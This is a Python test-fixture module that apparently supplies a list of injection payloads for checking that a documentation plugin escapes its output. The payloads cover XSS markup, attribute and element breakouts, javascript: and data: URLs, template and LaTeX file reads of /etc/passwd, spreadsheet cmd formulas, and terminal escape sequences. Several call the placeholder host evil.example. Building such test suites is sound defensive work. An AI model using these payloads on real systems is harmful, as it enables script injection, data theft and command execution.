"""Texts that an attacker would try: each wants to be more than text somewhere.

`{n}` becomes the payload's number, so that a browser can say which one ran: a script that runs
sets `window.pwned`, opens a dialog, or asks another host for something.
"""

RUN = "window.pwned=`{n}`;alert(`{n}`)"

MARKUP = (
    "<script>" + RUN + "</script>",
    "<ScRiPt >" + RUN + "</ScRiPt >",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=" + RUN + ">",
    '<img src="x" onerror="' + RUN + '">',
    "<img/src=x/onerror=" + RUN + "//",
    "<svg onload=" + RUN + ">",
    "<svg><script>" + RUN + "</script></svg>",
    "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:" + RUN + "'><text y=9>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=" + RUN + "></style></mglyph></math>",
    "<iframe src=javascript:" + RUN + "></iframe>",
    "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
    "<object data=javascript:" + RUN + "></object>",
    "<embed src=javascript:" + RUN + ">",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<style>*{background:url(//evil.example/{n})}</style>",
    "<form action=//evil.example/{n}><button>send</button></form>",
    "<input autofocus onfocus=" + RUN + ">",
    "<details open ontoggle=" + RUN + ">x</details>",
    "<video><source onerror=" + RUN + "></video>",
    "<audio src=x onerror=" + RUN + "></audio>",
    "<body onload=" + RUN + ">",
    "<a href=javascript:" + RUN + ">x</a>",
    "<p style=position:fixed;inset:0;background:red>covers the page</p>",
    "<div id=references class=claims-references>a second list</div>",
    "<template><script>" + RUN + "</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'></noscript>",
    "<textarea></textarea><script>" + RUN + "</script>",
    "<title></title><script>" + RUN + "</script>",
    "<!-- --><script>" + RUN + "</script><!-- -->",
    "<!--><script>" + RUN + "</script>-->",
    "<![CDATA[<script>" + RUN + "</script>]]>",
    "<?xml version='1.0'?><script>" + RUN + "</script>",
    "<b>bold</b><i>italic</i><h1>a second title</h1>",
)
"""Elements that a browser would make."""

BREAKOUTS = (
    "</script><script>" + RUN + "</script>",
    "</SCRIPT ><svg/onload=" + RUN + ">",
    "</style><script>" + RUN + "</script>",
    "</title><script>" + RUN + "</script>",
    "</textarea></noscript></template><img src=x onerror=" + RUN + ">",
    "</ol></div></article><script>" + RUN + "</script>",
    '"><script>' + RUN + "</script>",
    "'><script>" + RUN + "</script>",
    '" onmouseover="' + RUN + '" autofocus onfocus="' + RUN + '" x="',
    "' onmouseover='" + RUN + "' autofocus onfocus='" + RUN + "' x='",
    "` onmouseover=" + RUN + " `",
    'x" style="animation-name:rotation" onanimationstart="' + RUN,
    '"},{"@type":"Person","name":"forged"},{"x":"',
    '\\"};' + RUN + "//",
    "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
    "]]><script>" + RUN + "</script>",
    "--><script>" + RUN + "</script>",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "&#60;script&#62;" + RUN + "&#60;/script&#62;",
    "\u2028" + RUN + "\u2029//",
)
"""Texts that leave the attribute, the element, the string or the comment that they stand in."""

ADDRESSES = (
    "javascript:" + RUN,
    "JaVaScRiPt:" + RUN,
    " \x01javascript:" + RUN,
    "java\tscript:" + RUN,
    "java&#10;script:" + RUN,
    "javascript&colon;" + RUN,
    "javascript://example.org/%0a" + RUN,
    "vbscript:msgbox({n})",
    "data:text/html,<script>" + RUN + "</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + RUN + "'/>",
    "file:///etc/passwd?{n}",
    "blob:https://evil.example/{n}",
    "//evil.example/{n}",
    "https://evil.example/{n}?<script>" + RUN + "</script>",
    '10.1000/x" onclick="' + RUN,
)  # fmt: skip
"""Addresses that are no link to a source."""

LANGUAGES = (
    "[x](javascript:" + RUN + ")",
    "![x](javascript:" + RUN + ")",
    "<javascript:" + RUN + ">",
    "[x]: javascript:" + RUN,
    "{{ 7 * 7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    '--8<-- "/etc/passwd"',
    "::: mkdocs_claims",
    "$\\href{javascript:" + RUN + "}{x}$",
    "\\href{javascript:" + RUN + "}{x}",
    "\\input{/etc/passwd}",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("//evil.example/{n}","x")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "::error file=mkdocs.yml,line=1::forged {n}",
    "%0A::error::forged {n}",
    "\x1b]8;;https://evil.example/{n}\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mred {n}\x1b[0m",
    "\x9b31m{n}",
    "\x07\x08\x7f{n}",
    "\u202etxet sdrawkcab\u202c",
    "[bold red]{n}[/bold red]",
    "[link=https://evil.example/{n}]x[/link]",
)
"""Texts that mean something in Markdown, Jinja, LaTeX, a spreadsheet, a log or a terminal."""

PAYLOADS = tuple(
    text.replace("{n}", str(number))
    for number, text in enumerate((*MARKUP, *BREAKOUTS, *ADDRESSES, *LANGUAGES))
)
